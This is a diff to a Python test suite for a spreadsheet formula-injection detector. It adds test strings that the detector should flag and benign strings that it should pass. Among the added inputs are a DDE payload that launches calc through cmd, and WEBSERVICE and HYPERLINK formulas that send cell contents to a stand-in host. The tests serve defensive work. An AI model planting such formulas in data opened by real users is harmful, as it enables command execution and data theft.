@@ -110,6 +110,7 @@ def test_good(odd: Odd, in_theme: Find, note: str) -> None:
         "+-+-A1",
         "＋１＋Ａ１",
         "-1&A1",
+        "-A1~WEBSERVICE(A1)",
         "-(A1)",
         '-"x"&A1',
         "-power",
@@ -135,6 +136,8 @@ def test_signs_of_formulas(text: str) -> None:
         ("x; -1+A1", "; -"),
         ("x; @SUM(A1)", "; @"),
         ("x; - y; +SUM(A1)", "; +"),
+        ("x\n=cmd|' /C calc'!A0;", "\n="),
+        ('x\r\n- y\r\n-HYPERLINK("http://x/?"&A1);', "\r -"),
     ],
 )
 def test_signs_behind_a_delimiter(text: str, start: str) -> None:
@@ -175,6 +178,7 @@ def test_signs_behind_a_delimiter(text: str, start: str) -> None:
         '-- From "The Guide" Richard Wagner (b. Leipzig, 1813; d. 1883) was a composer',
         *("C++; -O2 flags", "C++; -O2", "x; - y; + z", "temperature; -5 to 10", "p. 12; = Lydian", "contact; @name"),
         *("; -5 °C", "1S/CH2O3.Ca/c2-1(3)4;/h(H2,2,3,4);/q;+2/p-2", "- https://example.org/?a=1&b=2", "+ ", ";", "x;="),
+        *("x\n- y\n- A1\n+ 5 °C", "x\n== y\n@z", "x\n\n--- z", "- ~5", "-~"),
     ],
 )
 def test_what_no_spreadsheet_computes(text: str) -> None:
